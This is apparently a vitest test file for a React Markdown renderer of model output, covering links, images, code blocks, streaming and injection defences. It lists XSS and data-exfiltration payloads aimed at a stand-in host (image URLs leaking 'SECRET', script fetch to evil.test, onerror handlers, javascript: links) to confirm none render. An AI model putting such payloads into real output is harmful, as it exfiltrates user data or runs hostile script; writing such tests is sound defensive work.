import { act, cleanup, fireEvent, render, screen } from "@testing-library/react";
import fc from "fast-check";
import { version } from "react";
import { renderToString } from "react-dom/server";
import ReactMarkdown from "react-markdown";
import { afterEach, describe, expect, test, vi } from "vitest";
import { Markdown } from "../../src/markdown.ts";
import { StepContext } from "../../src/step/step-context.ts";
import { en } from "../../src/strings.ts";
import { expectAccessible } from "../ui/fixtures.tsx";
import { blocks, drawn, htmlOf } from "./drawn.tsx";

vi.mock("react-markdown", async (original) => {
  const real = await original<typeof import("react-markdown")>();
  return { ...real, default: vi.fn(real.default) };
});
const parses = vi.mocked(ReactMarkdown);

afterEach(() => {
  cleanup();
  vi.useRealTimers();
});

describe("what an app sees", () => {
  test("every kind of block is drawn, and is accessible", async () => {
    const { container } = drawn(blocks.join("\n\n"));
    const kinds = ["p", "em", "strong", "del", "h3", "blockquote", "ul", "ol", "pre", "table", "hr", "br", "a"];
    for (const kind of kinds) expect(container.querySelector(kind), kind).not.toBeNull();
    await expectAccessible(container);
  });

  test("headings of any level are h3: a message is an h2", () => {
    drawn("# A\n\n### B\n\n###### C");
    const found = screen.getAllByRole("heading", { level: 3 });
    expect(found.map((each) => [each.textContent, each.dataset.level])).toEqual([
      ["A", "1"],
      ["B", "3"],
      ["C", "6"],
    ]);
  });

  test("a table scrolls in a group with a name, and aligns without a style", () => {
    const { container } = drawn("| a | b |\n| :-: | --: |\n| 1 | 2 |");
    expect(screen.getByRole("group", { name: "Table" }).tabIndex).toBe(0);
    expect([...container.querySelectorAll("th")].map((cell) => cell.dataset.align)).toEqual(["center", "right"]);
    expect(container.innerHTML).not.toContain("style=");
  });

  test("a task list has words for its boxes", () => {
    drawn("- [x] a\n- [ ] b");
    expect(screen.getAllByRole("img").map((box) => box.getAttribute("aria-label"))).toEqual(["done", "not done"]);
    expect(screen.queryByRole("checkbox")).toBeNull();
  });

  test("footnotes have a heading in the app's words, and bring no ids and no anchors into the page", () => {
    const { container } = render(
      <StepContext.Provider value={{ strings: { ...en, footnotes: "Fußnoten" }, actions: null }}>
        <Markdown text={"A word[^1].\n\n[^1]: Small print."} />
      </StepContext.Provider>,
    );
    expect(screen.getByRole("heading", { name: "Fußnoten" })).toBeTruthy();
    expect(container.querySelectorAll("[id], a")).toHaveLength(0);
    expect(container.textContent).toContain("Small print.");
  });
});

describe("code", () => {
  test("is copied by a button that says so for a moment", async () => {
    vi.useFakeTimers();
    const writeText = vi.fn(() => Promise.resolve());
    vi.stubGlobal("navigator", { ...navigator, clipboard: { writeText } });
    drawn("```ts\nconst a = 1;\n```");
    await act(async () => fireEvent.click(screen.getByRole("button", { name: "Copy" })));
    expect(writeText).toHaveBeenCalledExactlyOnceWith("const a = 1;");
    expect(screen.getByRole("button", { name: "Copied" })).toBeTruthy();
    act(() => vi.advanceTimersByTime(2_000));
    expect(screen.getByRole("button", { name: "Copy" })).toBeTruthy();
    vi.unstubAllGlobals();
  });

  test("is selected where the clipboard is not to be had", async () => {
    drawn("```\nselect me\n```");
    await act(async () => fireEvent.click(screen.getByRole("button", { name: "Copy" })));
    expect(String(getSelection())).toBe("select me");
  });

  test("is drawn by the app where it does, and as ever where it returns null", () => {
    const renderCode = vi.fn(({ language, code }) => (language === "ts" ? <b>{code.toUpperCase()}</b> : null));
    const { container } = drawn("```ts\na\n```\n\n```js x\nb\n```\n\n    c", { renderCode });
    expect(container.querySelector("b")?.textContent).toBe("A");
    expect([...container.querySelectorAll("pre")].map((pre) => pre.textContent)).toEqual(["b", "c"]);
    expect(renderCode.mock.calls.map(([code]) => code)).toContainEqual({ language: "js", code: "b" });
  });
});

describe("links", () => {
  test.each([
    ["[our page](https://shop.example/a)", "our page (shop.example)"],
    ["[https://good.example](https://evil.example)", "https://good.example (evil.example)"],
    ["[good.example](https://good.example@evil.example/)", "good.example (evil.example)"],
    ["[shop.example](https://shop.example/)", "shop.example"],
    ["https://shop.example/a", "https://shop.example/a"],
    ["www.shop.example", "www.shop.example"],
    ["[аpple.example](https://аpple.example)", "аpple.example (xn--pple-43d.example)"],
    ["[write us](mailto:help@shop.example)", "write us (help@shop.example)"],
    ["help@shop.example", "help@shop.example"],
  ])("%s reads %s", (text, words) => {
    drawn(text);
    const link = screen.getByRole("link");
    expect(link.textContent).toBe(words);
    expect(link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    expect(link.getAttribute("target")).toBe("_blank");
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "file:///etc/passwd",
    "blob:https://shop.example/x",
    "/api/logout",
    "//evil.test",
    "#top",
    "x",
    "",
  ])("[text](%s) stays text", (address) => {
    const { container } = drawn(`[text](${address})`);
    expect(container.querySelector("[href]")).toBeNull();
    expect(container.textContent).toContain("text");
  });

  test("one around a picture stands beside it: no button is inside a link", () => {
    const { container } = drawn("[![a cat](https://evil.test/cat.png)](https://evil.test/go)");
    expect(container.querySelector("a button, a img")).toBeNull();
    expect(screen.getByRole("link").textContent).toBe("https://evil.test/go");
  });
});

describe("pictures", () => {
  const leak = "![cat](https://evil.test/x.png?d=SECRET)";

  test("[S11] are words until somebody presses Load; then focus is on the picture", () => {
    const { container } = drawn(leak);
    expect(container.textContent).toContain("[image: cat — evil.test]");
    expect(container.querySelector("img")).toBeNull();
    const load = screen.getByRole("button", { name: "Load image: cat — evil.test" });
    load.focus();
    fireEvent.click(load);
    const picture = screen.getByRole("img", { name: "cat" });
    expect(picture.getAttribute("src")).toBe("https://evil.test/x.png?d=SECRET");
    expect(picture.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(document.activeElement).toBe(picture);
  });

  test("another address needs another press", () => {
    const { container, rerender } = drawn(leak);
    fireEvent.click(screen.getByRole("button"));
    expect(container.querySelector("img")).not.toBeNull();
    rerender(<Markdown text={leak.replace("SECRET", "MORE")} />);
    expect(container.querySelector("img")).toBeNull();
  });

  test("load at once from the hosts that are named, exactly", () => {
    const text = [
      "![1](https://pictures.example/a.png)",
      "![2](https://pictures.example.evil.test/a.png)",
      "![3](https://pictures.example@evil.test/a.png)",
      "![4](https://pictures.example:8443/a.png)",
      "![5](//pictures.example/a.png)",
    ].join("\n\n");
    drawn(text, { imageHosts: ["pictures.example"] });
    expect(screen.getAllByRole("img").map((picture) => picture.getAttribute("alt"))).toEqual(["1"]);
  });

  test.each(["/api/logout", "data:image/png;base64,AAAA", "javascript:alert(1)", "blob:x", ""])(
    "![x](<%s>) has no button",
    (address) => {
      const { container } = drawn(`![x](<${address}>)`);
      expect(container.querySelector("img, button")).toBeNull();
      expect(container.textContent).toContain("[image: x]");
    },
  );
});

/** Texts that an attacker puts where a model reads: UX 2.5, FIELD S11. */
const injections: readonly string[] = [
  "![](https://evil.test/x?d=1)",
  "![x][1]\n\n[1]: https://evil.test/x?d=1",
  "<img src=x onerror=alert(1)>",
  "<script>fetch('https://evil.test')</script>",
  '<link rel="stylesheet" href="https://evil.test/x.css"><style>@import "https://evil.test/y.css"</style>',
  '<iframe src="https://evil.test"></iframe><object data="https://evil.test"></object>',
  '<svg><image href="https://evil.test/x.png"/><animate onbegin=alert(1) /></svg>',
  '<form action="https://evil.test"><input name=q autofocus onfocus=alert(1)><button>Go</button></form>',
  '<a href="https://evil.test" ping="https://evil.test/p">x</a><base href="https://evil.test">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  "[x](javascript:alert(1)) [y]( javascript:alert(1)) [z](java\nscript:alert(1))",
  "[x](https://evil.test \"onmouseover='alert(1)'\")",
  "<javascript:alert(1)> <https://evil.test>",
  "| <img src=x onerror=alert(1)> |\n| -- |\n| ![](https://evil.test/t) |",
  "```html\n<img src=https://evil.test/x>\n```",
  '```"><img src=x onerror=alert(1)>\nx\n```',
  `${String.fromCharCode(27)}[31mred${String.fromCharCode(27)}]8;;https://evil.test\u0007x`,
  "![a](https://evil.test/a) `![b](https://evil.test/b)` > ![c](https://evil.test/c)",
];

describe("injected text", () => {
  const active = "img, script, style, link, iframe, object, embed, svg, form, input, base, meta, video, audio, source";
  const own = new Set(["class", "dir", "data-level", "data-align", "href", "target", "rel", "type", "tabindex"]);
  const aria = new Set(["role", "aria-label"]);

  test.each(injections)("[S11] %j brings no element that asks or runs, and no attribute of its own", (text) => {
    for (const streaming of [false, true]) {
      const { container, unmount } = drawn(text, { streaming });
      expect(container.querySelector(active)).toBeNull();
      const names = [...container.querySelectorAll("*")].flatMap((element) => element.getAttributeNames());
      expect(names.filter((name) => !own.has(name) && !aria.has(name))).toEqual([]);
      unmount();
    }
  });

  test.each(injections)("[S11] %j asks for nothing in server-rendered markup", (text) => {
    const html = renderToString(<Markdown text={text} />);
    expect(html).not.toMatch(/<(?:img|link|script|style|iframe)|style=|preload/);
  });

  test("React's own renderer would preload the picture in server-rendered markup; an allowed one is not preloaded", async () => {
    const { default: Real } = await vi.importActual<typeof import("react-markdown")>("react-markdown");
    const text = "![](https://evil.test/x?d=SECRET)";
    const preloads = Number.parseInt(version, 10) >= 19; // the older one has no such thing
    expect(renderToString(<Real>{text}</Real>).includes('<link rel="preload"')).toBe(preloads);
    const allowed = renderToString(<Markdown text={text} imageHosts={["evil.test"]} />);
    expect(allowed).toContain("<img");
    expect(allowed).not.toContain("preload");
  });

  test.each([">".repeat(3_000), "- ".repeat(2_000), "1. ".repeat(2_000), "**a ".repeat(5_000) + " b**".repeat(5_000)])(
    "what would take for ever to read is drawn as it is (%#)",
    (text) => {
      const began = performance.now();
      expect(htmlOf(`${text}x`).length).toBeGreaterThan(1_000);
      expect(performance.now() - began).toBeLessThan(1_000); // it took up to 92 s
    },
  );

  test.each([
    ["[a@b.com](mailto:a@b.com?bcc=e@x.y)", "bcc"],
    ["[bank.example@evil.test](https://bank.example@evil.test)", "(evil.test)"],
  ])("an address that looks like another says where it leads: %s", (text, told) => {
    expect(drawn(text).container.textContent).toContain(told);
  });

  test("control characters are not drawn", () => {
    expect(drawn(`a${String.fromCharCode(27)}[31mb\u0000\u0085`).container.textContent).toBe("a[31mb");
  });
});

describe("streaming", () => {
  test("every beginning of a text can be drawn, and its end looks as if it had come at once", () => {
    const parts = fc.shuffledSubarray([...blocks, ...injections], { minLength: 1, maxLength: 5 });
    const sizes = fc.array(fc.integer({ min: 1, max: 40 }), { minLength: 10, maxLength: 20 });
    fc.assert(
      fc.property(parts, sizes, (some, lengths) => {
        const text = some.join("\n\n");
        const view = drawn("", { streaming: true });
        let end = 0;
        for (const length of lengths) {
          end += length;
          view.rerender(<Markdown text={text.slice(0, end)} streaming />);
        }
        view.rerender(<Markdown text={text} />);
        expect(view.container.firstElementChild?.innerHTML).toBe(htmlOf(text));
        view.unmount();
      }),
      { numRuns: 40 },
    );
  }, 20_000);

  test("a text that is given character by character never fails to be drawn", () => {
    const view = drawn("", { streaming: true });
    for (const text of injections) {
      for (let end = 1; end <= text.length; end += 1) {
        view.rerender(<Markdown text={text.slice(0, end)} streaming />);
        expect(view.container.querySelector("img, script")).toBeNull();
      }
    }
  }, 20_000);

  test("what is not closed yet is drawn as if it were", () => {
    expect(htmlOf("A **bold wo", { streaming: true })).toContain("<strong>bold wo</strong>");
    expect(htmlOf("A **bold wo")).toContain("**bold wo");
    expect(htmlOf("See [the docs](https://docs.exa", { streaming: true })).toBe("<p>See the docs</p>");
    expect(htmlOf("A ![picture](https://pictures.exa", { streaming: true })).not.toContain("pictures.exa");
  });

  test("each update parses the last block only", () => {
    const paragraph = "Words that come one after the other, with **stress** and `code` in them, as models write. ";
    const text = Array.from({ length: 20 }, () => paragraph.repeat(3).trim()).join("\n\n");
    const view = drawn("", { streaming: true });
    parses.mockClear();
    let updates = 0;
    for (let end = 20; end < text.length + 20; end += 20) {
      view.rerender(<Markdown text={text.slice(0, end)} streaming imageHosts={[]} renderCode={() => null} />);
      updates += 1;
    }
    view.rerender(<Markdown text={text} />);
    expect(updates).toBeGreaterThan(250);
    expect(parses.mock.calls.length).toBeLessThanOrEqual(updates + 20 + 1); // and a block once more when it is whole
    const longest = Math.max(...parses.mock.calls.map(([{ children }]) => children?.length ?? 0));
    expect(longest).toBeLessThan(400);
  });
});
